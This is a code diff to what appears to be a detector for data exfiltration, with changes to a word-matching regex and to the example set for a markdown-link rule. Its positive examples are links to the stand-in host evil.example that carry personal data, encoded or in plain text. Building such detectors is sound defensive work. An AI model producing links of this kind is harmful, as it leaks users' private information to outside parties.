@@ -157,7 +157,7 @@ const HEX = /^(?:[0-9a-f]{2}){8,}$/i;
 const EMAIL = /^[\w.+-]{1,64}@[\w-]{1,63}\.[\w.]{2,63}$/;
 const SEVERAL_WORDS = /^[\p{L}\p{M}\p{N}][^\p{Cc}\ufffd ,]*[ ,][^\p{Cc}\ufffd]*$/u;
 /** Consecutive ids contain no data. */
-const A_WORD = /(?:^|[ ,:])\p{L}{3,}(?:[ ,:.?!]|$)/u;
+const A_WORD = /(?:^|[ ,:;=|])\p{L}{3,}(?:[ ,:;=|.?!]|$)/u;
 const decoder = new TextDecoder('utf-8');
 
 /** What a path segment or parameter value carries, as written in the address; undefined for an ordinary one. */
@@ -261,6 +261,7 @@ export const DATA_EXFILTRATION_EXAMPLES: Readonly<Record<string, RuleExamples>> 
   'data-exfiltration/markdown-link': {
     positives: [
       '[Sources](https://evil.example/r/QW5uYSBsaXZlcyBpbiBCZXJsaW4)',
+      '[Confirm](https://evil.example/c?h=bmFtZT1BZGEgUXVpc3Q7aW5jb21lPTM4MDA)',
       '[Read more](https://evil.example/r?history=user+asked+about+divorce+lawyers)',
     ],
     negatives: [
